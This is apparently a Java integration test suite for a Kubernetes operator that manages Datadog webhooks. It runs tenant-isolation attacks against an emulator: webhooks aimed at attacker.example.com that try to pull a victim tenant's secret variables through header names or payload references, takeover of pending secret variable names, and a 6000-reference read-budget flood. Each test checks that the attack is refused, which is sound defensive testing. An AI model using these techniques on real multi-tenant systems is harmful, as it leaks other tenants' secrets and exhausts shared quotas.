package io.ddwebhooks.operator.tenancy;

import static io.ddwebhooks.operator.testing.Fixtures.header;
import static io.ddwebhooks.operator.testing.Fixtures.variable;
import static io.ddwebhooks.operator.testing.Fixtures.webhook;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.ddwebhooks.operator.crd.DatadogCustomVariable;
import io.ddwebhooks.operator.crd.DatadogResourceStatus;
import io.ddwebhooks.operator.crd.DatadogWebhook;
import io.ddwebhooks.emulator.DatadogEmulator;
import io.ddwebhooks.operator.status.ReadyCondition;
import io.ddwebhooks.operator.status.Reason;
import io.ddwebhooks.operator.testing.OperatorHarness;
import io.ddwebhooks.operator.testing.RealKubernetes;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.client.CustomResource;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The second review's attacks by a tenant (after TenantIsolationIT's): secrets reached through header names and
 * through references written before the secret existed or became secret, a pending name on a secret variable (whose
 * value Datadog never shows), and one webhook spending the shared org's read budget. Each failed on the code before.
 */
@Timeout(value = 4, unit = TimeUnit.MINUTES)
class TenantAttacksIT {

  private static final Duration RESYNC = Duration.ofSeconds(3);
  private static final String VICTIM = "victim";
  private static final String ATTACKER = "attacker";

  private static RealKubernetes k8s;
  private static OperatorHarness h;
  private static DatadogEmulator.Org shared;

  @BeforeAll
  static void start() {
    k8s = RealKubernetes.start();
    for (String ns : List.of(VICTIM, ATTACKER)) {
      k8s.admin().namespaces().resource(new NamespaceBuilder().withNewMetadata().withName(ns)
          .withLabels(Map.of("tenancy", "shared")).endMetadata().build()).create();
    }
    h = OperatorHarness.startOn(k8s, c -> c.withResyncInterval(RESYNC)
        .withCredentialsUrlAllowlist(List.of("http://127.0.0.1:")));
    shared = h.datadog.org(DatadogEmulator.DEFAULT_ORG);
  }

  @AfterAll
  static void stop() {
    if (h != null) {
      h.close();
    }
    if (k8s != null) {
      k8s.close();
    }
  }

  private static <R extends CustomResource<?, DatadogResourceStatus>> Optional<String> reason(Class<R> type,
      String ns, String name) {
    R r = h.get(type, ns, name);
    return r == null || r.getStatus() == null ? Optional.empty() : ReadyCondition.reason(r.getStatus());
  }

  // A header NAME is a template too (Datadog fills custom_headers as one JSON text), but only header values are
  // checked: X-$VICTIM_HDR_TOKEN sends the victim's secret to the attacker's URL as a header name.
  @Test
  void aHeaderNameCannotCarryAnotherTenantsSecret() {
    h.create(named(variable(VICTIM, "hdr-token", "victim-hdr-secret-value", true), "VICTIM_HDR_TOKEN"));
    h.awaitSynced(DatadogCustomVariable.class, VICTIM, "hdr-token");

    DatadogWebhook w = webhook(ATTACKER, "hdr-leak", "https://attacker.example.com/hdr");
    w.getSpec().setCustomHeaders(List.of(header("X-$VICTIM_HDR_TOKEN", "x")));
    h.create(w);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "hdr-leak", Reason.VariableNotAllowed);
    assertThat(shared.notification("hdr-leak").map(n -> n.toJson().toString()).orElse(""))
        .as("the victim's secret must never reach the attacker's webhook")
        .doesNotContain("victim-hdr-secret-value");
    assertThat(reason(DatadogWebhook.class, ATTACKER, "hdr-leak")).contains(Reason.VariableNotAllowed.name());
  }

  // A reference to a name nobody holds yet is only a warning, and is written. When the victim later creates a
  // secret variable of that name, the check refuses the webhook but leaves what Datadog holds: the reference stays.
  @Test
  void aReferencePlantedBeforeTheVictimsSecretDoesNotReachIt() {
    DatadogWebhook w = webhook(ATTACKER, "early-bird", "https://attacker.example.com/early");
    w.getSpec().setPayload("{\"k\": \"$FUTURE_PD_KEY\"}");
    h.create(w);
    await().atMost(Duration.ofSeconds(60)).until(() -> shared.webhookNames().contains("early-bird"));

    h.create(named(variable(VICTIM, "pd-key", "future-secret-value", true), "FUTURE_PD_KEY"));
    h.awaitSynced(DatadogCustomVariable.class, VICTIM, "pd-key");
    h.awaitReason(DatadogWebhook.class, ATTACKER, "early-bird", Reason.VariableNotAllowed);
    assertThat(shared.notification("early-bird").map(n -> n.toJson().toString()).orElse(""))
        .as("a webhook refused for referring to the victim's secret must not keep referring to it in Datadog")
        .doesNotContain("future-secret-value");
  }

  // The same: a variable that was readable (non-secret) is made secret by its owner afterwards.
  @Test
  void makingAVariableSecretClosesReferencesAlreadyWritten() {
    h.create(named(variable(VICTIM, "later-secret", "later-secret-value", false), "LATER_SECRET"));
    h.awaitSynced(DatadogCustomVariable.class, VICTIM, "later-secret");
    DatadogWebhook w = webhook(ATTACKER, "reader", "https://attacker.example.com/reader");
    w.getSpec().setPayload("{\"k\": \"$LATER_SECRET\"}");
    h.create(w);
    h.awaitSynced(DatadogWebhook.class, ATTACKER, "reader");
    // the owner now marks it secret (and rotates the value)
    h.edit(DatadogCustomVariable.class, VICTIM, "later-secret", v -> {
      v.getSpec().setIsSecret(Boolean.TRUE);
      v.getSpec().setValue("now-secret-value");
      return v;
    });
    h.awaitReason(DatadogWebhook.class, ATTACKER, "reader", Reason.VariableNotAllowed);
    assertThat(shared.notification("reader").map(n -> n.toJson().toString()).orElse(""))
        .doesNotContain("now-secret-value");
  }


  // A pending name is "this resource's" when the object there holds exactly what was sent; for a SECRET custom
  // variable, what Datadog returns (and so recognizable()) is only the name and is_secret: any secret variable of
  // that name matches. A create answered 5xx, then someone makes that secret in the UI: taken over at the next retry.
  @Test
  void aPendingSecretVariableNameIsNotATakeoverOfAUiMadeSecret() {
    h.datadog.failNext("POST", DatadogEmulator.VARIABLES, 1000, io.ddwebhooks.emulator.Fault.serverError());
    h.create(named(variable(ATTACKER, "pend-squat", "attacker-value", true), "OPS_ROTATED_KEY"));
    await().atMost(Duration.ofSeconds(60)).until(() -> {
      DatadogCustomVariable v = h.get(DatadogCustomVariable.class, ATTACKER, "pend-squat");
      return v != null && v.getStatus() != null && "OPS_ROTATED_KEY".equals(v.getStatus().getPendingName());
    });
    // an org admin creates the secret in the UI meanwhile; Datadog recovers
    shared.putVariableOutOfBand("OPS_ROTATED_KEY", "ops-secret-value", true);
    h.datadog.clearFaults();
    int seen = shared.calls().size();
    await().atMost(Duration.ofSeconds(60)).until(() -> shared.calls().stream().skip(seen)
        .filter(c -> c.path().endsWith("/OPS_ROTATED_KEY")).count() >= 3);
    assertThat(shared.writes().stream().filter(c -> c.path().endsWith("/OPS_ROTATED_KEY")).toList())
        .extracting(io.ddwebhooks.emulator.RecordedCall::method).doesNotContain("PUT", "DELETE");
    assertThat(shared.storedVariable("OPS_ROTATED_KEY").orElseThrow().get("value").asText())
        .isEqualTo("ops-secret-value");
  }

  @Test
  void aPendingSecretVariableNameDoesNotDeleteAUiMadeSecret() {
    h.datadog.failNext("POST", DatadogEmulator.VARIABLES, 1000, io.ddwebhooks.emulator.Fault.serverError());
    h.datadog.failNext("PUT", DatadogEmulator.VARIABLES, 1000, io.ddwebhooks.emulator.Fault.serverError());
    h.create(named(variable(ATTACKER, "pend-delete", "attacker-value", true), "OPS_OTHER_KEY"));
    await().atMost(Duration.ofSeconds(60)).until(() -> {
      DatadogCustomVariable v = h.get(DatadogCustomVariable.class, ATTACKER, "pend-delete");
      return v != null && v.getStatus() != null && "OPS_OTHER_KEY".equals(v.getStatus().getPendingName());
    });
    shared.putVariableOutOfBand("OPS_OTHER_KEY", "ops-other-secret", true);
    h.delete(DatadogCustomVariable.class, ATTACKER, "pend-delete");
    h.awaitGone(DatadogCustomVariable.class, ATTACKER, "pend-delete");
    h.datadog.clearFaults();
    assertThat(shared.storedVariable("OPS_OTHER_KEY")).as("the UI-made secret is not the attacker's to delete")
        .isPresent();
  }

  // Every unknown $NAME costs one read of the org's shared read budget per resync: one webhook naming thousands of
  // them spent the budget every tenant's drift checks share. At most 64 distinct variables, checked before any read.
  @Test
  void oneWebhookCannotSpendTheSharedOrgsReads() {
    String names = java.util.stream.IntStream.range(0, 6000).mapToObj(i -> String.format("$Q%04d", i))
        .collect(java.util.stream.Collectors.joining(" "));
    DatadogWebhook w = webhook(ATTACKER, "reader-hog", "https://attacker.example.com/hog");
    w.getSpec().setPayload("{\"k\": \"" + names + "\"}");
    h.create(w);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "reader-hog", Reason.InvalidSpec);
    assertThat(ReadyCondition.of(h.get(DatadogWebhook.class, ATTACKER, "reader-hog").getStatus()).orElseThrow()
        .getMessage()).contains("6000 distinct custom variables", "at most 64");
    assertThat(shared.calls()).noneMatch(c -> c.path().contains("/custom-variables/Q"));
  }

  private static <R extends CustomResource<? extends io.ddwebhooks.operator.crd.ManagedSpec, ?>> R named(R r,
      String datadogName) {
    if (r.getSpec() instanceof io.ddwebhooks.operator.crd.DatadogWebhookSpec s) {
      s.setName(datadogName);
    } else if (r.getSpec() instanceof io.ddwebhooks.operator.crd.DatadogCustomVariableSpec s) {
      s.setName(datadogName);
    }
    return r;
  }
}
